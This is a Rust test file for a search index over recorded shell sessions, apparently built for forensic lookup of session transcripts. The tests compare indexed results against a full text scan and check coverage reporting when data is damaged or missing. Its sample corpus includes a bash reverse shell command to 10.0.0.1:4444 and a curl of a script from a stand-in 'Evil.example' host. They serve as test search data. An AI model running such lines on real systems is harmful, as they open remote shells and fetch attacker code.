//! Search against a scan of the same text: no difference is allowed.

use std::path::Path;

use proptest::prelude::*;
use proptest::test_runner::{Config, RngSeed, TestRunner};
use shelltrail_core::Session;
use shelltrail_core::sink::{Failure, RecordSink};

use jiff::Timestamp;

use super::*;
use crate::query::{Pattern, Within};
use crate::{IndexRoot, Literal, LocalSink, samples};

fn store(dir: &Path, commits: &[&[Session]]) -> LocalSink {
    let (root, lock) = IndexRoot::open_for_writing(dir, Some(1)).unwrap();
    let sink = LocalSink::new(root, lock);
    for sessions in commits {
        let mut by_partition: BTreeMap<Partition, Vec<Session>> = BTreeMap::new();
        for session in *sessions {
            by_partition.entry(sink.partition(session.account.as_ref())).or_default().push(session.clone());
        }
        let build = |(partition, sessions): (Partition, Vec<Session>)| {
            sink.build(&partition, &mut sessions.into_iter()).unwrap()
        };
        let batches = by_partition.into_iter().map(build).collect();
        sink.commit(batches).unwrap();
    }
    sink
}

fn ask(searcher: &Searcher, query: &Query, limit: usize) -> Answer {
    searcher.search(query, &SearchOptions { limit, ..SearchOptions::default() })
}

fn listed(searcher: &Searcher, query: &Query) -> usize {
    searcher.sessions(query, &SearchOptions { limit: 1000, ..SearchOptions::default() }).sessions.len()
}

fn found(answer: &Answer) -> Vec<(String, u32)> {
    answer.hits.iter().map(|hit| (hit.session().session.clone(), hit.seq)).collect()
}

fn corpus() -> Vec<Session> {
    let long = "Zm9vYmFy0".repeat(40);
    let path = format!("/var/lib/{}", "deep/".repeat(60));
    let reverse_shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
    let texts: Vec<Vec<(&str, &str)>> = vec![
        vec![("sudo id", "uid=0(root) gid=0(root)"), (reverse_shell, ""), ("cat big", &long)],
        vec![
            ("echo 日本語テキスト", "日本語テキスト\nzweite ZEILE Ärger"),
            ("ls 2>&1 | grep x", "a1b2 12 123 1234 5.6.7"),
        ],
        vec![(&path, "404 | 10.20.30.40:8080 v1.2.3-rc4"), ("SUDO -i", "curl https://Evil.example/x.sh")],
        vec![],
    ];
    let accounts = ["111122223333", "111122223333", "444455556666", "-"];
    let mut sessions = Vec::new();
    for (i, (texts, account)) in texts.iter().zip(accounts).enumerate() {
        let mut session = samples::in_account(&format!("user{i}-05ba181f37a0fb8d2"), account, texts);
        // Two sessions end at the same time, one at an unknown one.
        session.ended_at = (i != 2).then(|| Timestamp::from_second(1_700_000_000 + (i as i64 / 2)).unwrap());
        sessions.push(session);
    }
    sessions
}

/// What a scan of all text gives, in the order of results.
fn scan(sessions: &[Session], literal: &Literal) -> Vec<(String, u32)> {
    let mut hits = Vec::new();
    for session in sessions {
        for record in &session.records {
            let texts = [record.command.as_deref().unwrap_or_default(), record.output.as_str()];
            if texts.iter().any(|text| literal.is_in(text)) {
                let newest_first = std::cmp::Reverse(session.ended_at);
                let order = (session.ended_at.is_none(), newest_first, session.id.to_string(), record.seq);
                hits.push((order, (session.session.clone(), record.seq)));
            }
        }
    }
    hits.sort();
    hits.into_iter().map(|(_, hit)| hit).collect()
}

#[test]
fn an_index_answers_as_a_scan_does() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions[..1], &sessions[1..]]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let texts: Vec<String> = sessions
        .iter()
        .flat_map(|session| &session.records)
        .flat_map(|record| [record.command.clone().unwrap_or_default(), record.output.clone()])
        .filter(|text| !text.is_empty())
        .collect();
    let query = (0..texts.len(), any::<prop::sample::Index>(), 1usize..80, any::<bool>());
    // A fixed seed: the same queries on every run.
    let config = Config { cases: 3000, rng_seed: RngSeed::Fixed(20_261_120), ..Config::default() };
    TestRunner::new(config)
        .run(&query, |(text, from, len, lower)| {
            let text = &texts[text];
            let from = text.floor_char_boundary(from.index(text.len()));
            let to = text.ceil_char_boundary((from + len).min(text.len()));
            let query = if lower { text[from..to].to_lowercase() } else { text[from..to].to_owned() };
            let literal = Literal::new(&query);
            let answer = ask(&searcher, &Query::literal(&query), 1000);
            prop_assert!(answer.coverage.is_complete());
            prop_assert_eq!(found(&answer), scan(&sessions, &literal), "{:?}", query);
            Ok(())
        })
        .unwrap();
}

#[test]
fn merged_segments_answer_as_a_scan_does() {
    let in_commit = |i: usize| {
        let texts = [("id", format!("uid={i}")), ("cat x", "e".repeat(i)), ("exit", String::new())];
        let texts: Vec<_> = texts.iter().map(|(command, output)| (*command, output.as_str())).collect();
        let mut session = samples::session(&format!("u{i}-05ba181f37a0fb8d2"), &texts[..i % 4]);
        // Many end at the same time, some at an unknown one.
        let at = Timestamp::from_second(1_700_000_000 + (i as i64 % 5)).unwrap();
        session.ended_at = (!i.is_multiple_of(7)).then_some(at);
        session
    };
    let sessions: Vec<Session> = (0..40).map(in_commit).collect();
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &sessions.chunks(2).collect::<Vec<_>>());
    let searcher = Searcher::open(dir.path()).unwrap();
    for query in ["i", "uid", "cat", "x", "ee", "d=3", "exit"] {
        let literal = Literal::new(query);
        let answer = ask(&searcher, &Query::literal(query), 1000);
        assert_eq!(found(&answer), scan(&sessions, &literal), "{query}");
    }
    assert_eq!(listed(&searcher, &Query::All), 40);
}

#[test]
fn the_limit_keeps_the_newest() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let query = Query::literal("e");
    let all = ask(&searcher, &query, 1000);
    assert!(!all.more && all.hits.len() > 3);
    for limit in 1..all.hits.len() {
        let some = ask(&searcher, &query, limit);
        assert!(some.more);
        assert_eq!(found(&some), found(&all)[..limit]);
    }
}

#[test]
fn filters_keep_what_they_name_and_what_is_unknown() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let hits = |filter: Query| found(&ask(&searcher, &filter.and(Query::literal("e")), 1000)).len();
    let of = |account: &str| Query::account(&account.parse().unwrap());
    let all = hits(Query::All);
    assert_eq!(hits(of("111122223333")) + hits(of("444455556666")), all);
    assert_eq!(hits(of("999999999999")), 0);
    let of_user = Query::is(Fact::Identifier(Identifier::Principal, Glob::exactly("user1")));
    assert!(hits(of_user) > 0);
    let future = Query::ended(Some(Timestamp::from_second(1_800_000_000).unwrap()), None);
    let unknown_time = ask(&searcher, &future.clone().and(Query::literal("e")), 1000);
    let not_unknown = ask(&searcher, &future.not().and(Query::literal("e")), 1000);
    assert_eq!(not_unknown.hits.len(), all, "an unknown time is not told by its opposite either");
    assert!(!unknown_time.hits.is_empty());
    assert!(unknown_time.hits.iter().all(|hit| hit.session().ended_at.is_none()));
    assert_eq!(listed(&searcher, &Query::All), 4);
    assert_eq!(listed(&searcher, &of("111122223333")), 2);
}

#[test]
fn sessions_of_an_object_with_many_accounts_are_found_by_each() {
    let dir = tempfile::tempdir().unwrap();
    let (root, lock) = IndexRoot::open_for_writing(dir.path(), Some(1)).unwrap();
    let sink = LocalSink::new(root, lock);
    let accounts = ["111122223333", "444455556666", "444455556666"];
    let sessions: Vec<_> = accounts
        .iter()
        .enumerate()
        .map(|(n, account)| {
            samples::in_account(&format!("u{n}-05ba181f37a0fb8d2"), account, &[("id", "uid=0")])
        })
        .collect();
    let unplaced = sink.partition(None);
    for _ in 0..2 {
        let batch = sink.build(&unplaced, &mut sessions.clone().into_iter()).unwrap();
        sink.commit(vec![batch]).unwrap();
        assert!(sink.contains(&unplaced, &sessions[0].id).unwrap());
    }
    // Asking elsewhere finds nothing and leaves no trace.
    let placed = sink.partition(sessions[0].account.as_ref());
    assert!(!sink.contains(&placed, &sessions[0].id).unwrap());
    assert!(!dir.path().join("partitions").join(placed.as_str()).exists());
    let searcher = Searcher::open(dir.path()).unwrap();
    for (account, wanted) in [("111122223333", 1), ("444455556666", 2), ("999999999999", 0)] {
        let query = Query::account(&account.parse().unwrap()).and(Query::literal("id"));
        let answer = ask(&searcher, &query, 10);
        assert_eq!(answer.hits.len(), wanted, "{account}");
        assert!(answer.coverage.is_complete());
        assert_eq!(listed(&searcher, &query), wanted);
    }
}

#[test]
fn records_around_a_hit_are_read_across_blocks() {
    let output = "x".repeat(crate::block::TARGET_TEXT_BYTES / 3);
    let commands: Vec<_> = (0..10).map(|_| ("cat", output.as_str())).collect();
    let session = samples::session("alice-05ba181f37a0fb8d2", &commands);
    let dir = tempfile::tempdir().unwrap();
    let other = samples::session("bob-05ba181f37a0fb8d2", &[("id", "")]);
    store(dir.path(), &[&[other, session.clone()]]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let answer = ask(&searcher, &Query::literal("cat"), 1000);
    assert_eq!(answer.hits.len(), 10);
    for hit in &answer.hits {
        let (first, last) = (hit.seq.saturating_sub(2), hit.seq + 2);
        let around = searcher.records(&hit.place, first, last).unwrap();
        assert_eq!(around, session.records[first as usize..session.records.len().min(last as usize + 1)]);
    }
}

#[test]
fn an_answer_says_what_it_could_not_see() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    let sink = store(dir.path(), &[&sessions]);
    let failure = Failure {
        object: sessions[0].object.clone(),
        account: sessions[0].account,
        reason: "kms-denied".to_owned(),
        detail: String::new(),
        attempts: 1,
        failed_at: Timestamp::UNIX_EPOCH,
        size: None,
        sequencer: None,
        message: None,
    };
    sink.record_failure(&failure).unwrap();
    let searcher = Searcher::open(dir.path()).unwrap();
    let coverage = ask(&searcher, &Query::literal("nothing"), 10).coverage;
    assert!(!coverage.is_complete());
    assert_eq!(coverage.not_indexed, [("kms-denied".to_owned(), 1)].into());
    let other = Query::account(&"444455556666".parse().unwrap()).and(Query::literal("nothing"));
    assert!(ask(&searcher, &other, 10).coverage.is_complete());

    // A damaged pack: its records are counted, the rest is found.
    sink.clear_failure(&failure.object).unwrap();
    let pack = dir.path().join("partitions/1/packs/00000000.pack");
    let mut bytes = std::fs::read(&pack).unwrap();
    for byte in bytes.iter_mut().skip(60).take(40) {
        *byte = !*byte;
    }
    std::fs::write(&pack, bytes).unwrap();
    let answer = ask(&Searcher::open(dir.path()).unwrap(), &Query::literal("e"), 1000);
    assert!(!answer.hits.is_empty() && !answer.coverage.is_complete());
    assert!(answer.coverage.unreadable_records > 0);
    assert!(answer.coverage.unreadable_reason.unwrap().contains("00000000.pack"));

    // A partition that cannot be opened at all.
    std::fs::write(dir.path().join("partitions/4/tantivy/meta.json"), "{").unwrap();
    let answer = ask(&Searcher::open(dir.path()).unwrap(), &Query::literal("e"), 1000);
    assert_eq!(answer.coverage.failed_partitions.keys().collect::<Vec<_>>(), ["4"]);
}

#[test]
fn a_partition_that_is_lost_is_missed() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    drop(store(dir.path(), &[&sessions]));
    let lost = dir.path().join("partitions/4");
    let ask_all = || ask(&Searcher::open(dir.path()).unwrap(), &Query::literal("nothing"), 10).coverage;
    assert!(ask_all().is_complete());
    for ways in ["empty", "gone"] {
        match ways {
            "empty" => {
                std::fs::remove_dir_all(lost.join("tantivy")).unwrap();
                std::fs::remove_dir_all(lost.join("packs")).unwrap();
            }
            _ => std::fs::remove_dir(&lost).unwrap(),
        }
        let coverage = ask_all();
        assert_eq!(coverage.failed_partitions.keys().collect::<Vec<_>>(), ["4"], "{ways}");
        let other = Query::account(&"111122223333".parse().unwrap()).and(Query::literal("nothing"));
        assert!(ask(&Searcher::open(dir.path()).unwrap(), &other, 10).coverage.is_complete());
        let told = crate::inventory::inventory(dir.path()).unwrap();
        assert!(told.unreadable_partitions["4"].contains("backfill"), "{ways}");
        let told = crate::check::check(dir.path(), false).unwrap();
        assert_eq!(told.damage.len(), 1, "{told:?}");
    }
    // Who builds it again makes it whole.
    store(dir.path(), &[&sessions[2..3]]);
    assert!(ask_all().is_complete());
    // An index that was made before there was a list has one as soon as it is written to.
    std::fs::remove_file(dir.path().join("partitions.json")).unwrap();
    drop(IndexRoot::open_for_writing(dir.path(), None).unwrap());
    std::fs::remove_dir_all(&lost).unwrap();
    assert!(!ask_all().is_complete());
}

#[test]
fn a_file_that_makes_tantivy_panic_costs_its_partition_alone() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    drop(store(dir.path(), &[&sessions]));
    let mut files = std::fs::read_dir(dir.path().join("partitions/4/tantivy")).unwrap();
    let path = files.find_map(|file| {
        Some(file.unwrap().path()).filter(|path| path.extension() == Some("fieldnorm".as_ref()))
    });
    let path = path.unwrap();
    let whole = std::fs::read(&path).unwrap();
    let mut panics = 0;
    for at in 0..whole.len() {
        let mut bytes = whole.clone();
        bytes[at] ^= 0x80;
        std::fs::write(&path, bytes).unwrap();
        let answer = ask(&Searcher::open(dir.path()).unwrap(), &Query::literal("sudo"), 1000);
        let failed = answer.coverage.failed_partitions.get("4");
        panics += usize::from(failed.is_some_and(|why| why.contains("index check")));
        assert!(found(&answer).iter().any(|(session, _)| session.starts_with("user0")), "{at}");
    }
    assert!(panics > 0, "this test has to find another way");
}

#[test]
fn a_deadline_ends_an_answer_honestly_and_the_next_goes_on() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let query = Query::literal("e");
    let late = SearchOptions { deadline: Some(std::time::Instant::now()), ..SearchOptions::default() };
    let answer = searcher.search(&query, &late);
    assert!(answer.coverage.budget_exceeded && !answer.coverage.is_complete());
    assert!(answer.hits.is_empty() && answer.more && answer.left_at_most > 0);
    assert_eq!((answer.coverage.sessions_searched, answer.coverage.records_searched), (0, 0));
    let all = ask(&searcher, &query, 1000);
    let next = searcher.search(&query, &SearchOptions { cursor: answer.cursor, ..SearchOptions::default() });
    assert_eq!(found(&next), found(&all));
    assert!(!searcher.count(&query, None, &late).coverage.is_complete());
}

#[test]
fn coverage_counts_what_is_in_scope() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    let sink = store(dir.path(), &[&sessions]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let all = ask(&searcher, &Query::literal("e"), 1000).coverage;
    assert_eq!((all.partitions, all.sessions_in_scope, all.sessions_searched), (3, 4, 4));
    assert_eq!(all.records_searched, 7);
    let of_one = Query::account(&"444455556666".parse().unwrap());
    let one = ask(&searcher, &of_one.clone().and(Query::literal("zz")), 1000).coverage;
    // Its own partition, and the one for objects without an account.
    assert_eq!((one.partitions, one.sessions_in_scope, one.records_searched), (2, 1, 2));
    let first = ask(&searcher, &Query::literal("e"), 1).coverage;
    assert!(first.is_complete(), "a limit hides nothing: the next page has it");

    let note = sink.root().begin_backfill("s3://bucket/ssm", "").unwrap();
    let searcher = Searcher::open(dir.path()).unwrap();
    note.end().unwrap();
    let coverage = ask(&searcher, &Query::literal("zz"), 1).coverage;
    assert_eq!(coverage.unfinished_backfills, ["s3://bucket/ssm"], "what it committed since is not seen");
    assert!(!coverage.is_complete());
    let searcher = Searcher::open(dir.path()).unwrap();
    assert!(ask(&searcher, &Query::literal("zz"), 1).coverage.is_complete());
}

#[test]
fn what_is_indexed_and_taken_off_the_list_meanwhile_is_still_missing_here() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    let sink = store(dir.path(), &[&sessions[..1]]);
    let failure = Failure {
        object: sessions[1].object.clone(),
        account: sessions[1].account,
        reason: "kms-denied".to_owned(),
        detail: String::new(),
        attempts: 1,
        failed_at: Timestamp::UNIX_EPOCH,
        size: None,
        sequencer: None,
        message: None,
    };
    sink.record_failure(&failure).unwrap();
    let searcher = Searcher::open(dir.path()).unwrap();
    let partition = sink.partition(sessions[1].account.as_ref());
    let batch = sink.build(&partition, &mut sessions[1..2].iter().cloned()).unwrap();
    sink.commit(vec![batch]).unwrap();
    sink.clear_failure(&failure.object).unwrap();
    let query = Query::literal("Ärger");
    let before = ask(&searcher, &query, 10);
    assert!(before.hits.is_empty() && !before.coverage.is_complete());
    let after = ask(&Searcher::open(dir.path()).unwrap(), &query, 10);
    assert!(after.hits.len() == 1 && after.coverage.is_complete());
}

#[test]
fn sessions_that_may_be_meant_and_cannot_be_told_are_counted() {
    let mut sessions = corpus();
    sessions[0].target = Some("i-0".to_owned());
    sessions[1].region = None;
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions[..2], &sessions[2..]]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let options = crate::query::Options::at(Timestamp::UNIX_EPOCH);
    for (text, expected) in [
        ("target:i-0", &[("target", 3)][..]),
        ("target:i-9 AND e", &[("target", 3)]),
        ("target:i-9 AND account:1111*", &[("account", 1), ("target", 2)]),
        ("target:i-9 AND region:us-east-1", &[("region", 1), ("target", 1)]),
        ("target:i-0 region:*", &[("region", 1), ("target", 3)]),
        ("region:eu-west-1", &[("region", 1)]),
        ("account:4*", &[("account", 1)]),
        ("principal:nobody", &[]),
        ("NOT target:i-9", &[]),
        ("NOT (NOT target:i-9 OR e)", &[("target", 3)]),
        ("session:x*", &[]),
    ] {
        let query = crate::query::parse(text, &options).unwrap();
        let coverage = ask(&searcher, &query, 10).coverage;
        let expected: BTreeMap<String, u64> =
            expected.iter().map(|(name, count)| ((*name).to_owned(), *count)).collect();
        assert_eq!(coverage.unidentified, expected, "{text}");
        assert!(coverage.is_complete(), "{text}");
    }
}

#[test]
fn an_identifier_that_is_too_long_for_a_term_is_told_by_the_session() {
    let mut sessions = corpus();
    sessions[0].principal = Some("p".repeat(3000));
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let of = |name| Query::is(Fact::Identifier(Identifier::Principal, Glob::parse(name).unwrap()));
    for (name, wanted) in [("ppp*", 1), ("user1", 1), ("nobody", 0), ("*", 4), ("user*", 3)] {
        assert_eq!(listed(&searcher, &of(name)), wanted, "{name}");
        assert_eq!(listed(&searcher, &of(name).not()), 4 - wanted, "NOT {name}");
        let with_text = of(name).and(Query::text(Within::Any, Pattern::new(".", &any_regex()).unwrap()));
        assert!(listed(&searcher, &with_text) <= wanted, "{name}");
    }
}

fn any_regex() -> crate::query::PatternOptions {
    crate::query::PatternOptions { regex: true, ..crate::query::PatternOptions::default() }
}

#[test]
fn sessions_are_found_by_the_beginning_of_their_id() {
    let mut sessions = corpus();
    sessions[1].session = sessions[0].session.clone();
    sessions[2].session = "user*".to_owned();
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let find = |prefix: &str| searcher.find_session(prefix, &SearchOptions::default()).sessions;
    assert_eq!(find("user0-05ba181f37a0fb8d2").len(), 2, "two transcripts claim one ID");
    assert_eq!(find("user").len(), 4);
    assert_eq!(find("user*").len(), 1);
    assert_eq!(find("USER").len(), 0);
    let signs = &find("user0")[0];
    assert_eq!(signs.confidence_floor, Some(shelltrail_core::Confidence::High));
    let empty = find("user3");
    assert_eq!((empty.len(), empty[0].confidence_floor), (1, None));
}

#[test]
fn counts_tell_how_widely_something_is_spread() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let count = |query: &Query, by| searcher.count(query, by, &SearchOptions::default());
    let mut by_account = count(&Query::literal("e"), Some(By::Account));
    let all = ask(&searcher, &Query::literal("e"), 1000).hits.len() as u64;
    assert_eq!((by_account.records, by_account.sessions), (all, 3));
    let names = |counts: &Counts| counts.groups.iter().map(|group| group.value.clone()).collect::<Vec<_>>();
    let (often, rare) = (Some("111122223333".to_owned()), Some("444455556666".to_owned()));
    assert_eq!(names(&by_account), [often.clone(), rare.clone()]);
    by_account.rarest_first();
    assert_eq!(names(&by_account), [rare, often]);
    assert_eq!(by_account.groups[0].first_seen, None);
    assert!(by_account.groups[1].first_seen.is_some());
    let by_day = count(&Query::All, Some(By::Day));
    assert_eq!(names(&by_day), [Some("2023-11-14".to_owned()), None]);
}

#[test]
fn an_explanation_tells_index_from_text() {
    let sessions = corpus();
    let dir = tempfile::tempdir().unwrap();
    store(dir.path(), &[&sessions]);
    let searcher = Searcher::open(dir.path()).unwrap();
    let options = crate::query::Options::at(Timestamp::UNIX_EPOCH);
    let query = crate::query::parse("sudo id AND NOT /[0-9]/ account:1*", &options).unwrap();
    let explanation = searcher.explain(&query);
    assert_eq!(explanation.root.label, "AND");
    let how: Vec<How> = explanation.root.parts.iter().map(|part| part.how).collect();
    assert_eq!(how, [How::IndexThenText, How::Parts, How::Index]);
    assert_eq!(explanation.root.parts[1].parts[0].how, How::Text);
    assert_eq!(explanation.root.parts[0].span, Some(0..7));
    assert!(explanation.root.parts[0].conditions[0].contains("\"sudo\""));
    assert_eq!(explanation.partitions.iter().map(|part| part.candidates).sum::<u64>(), 1);
    assert!(explanation.bytes_to_read > 0);
}
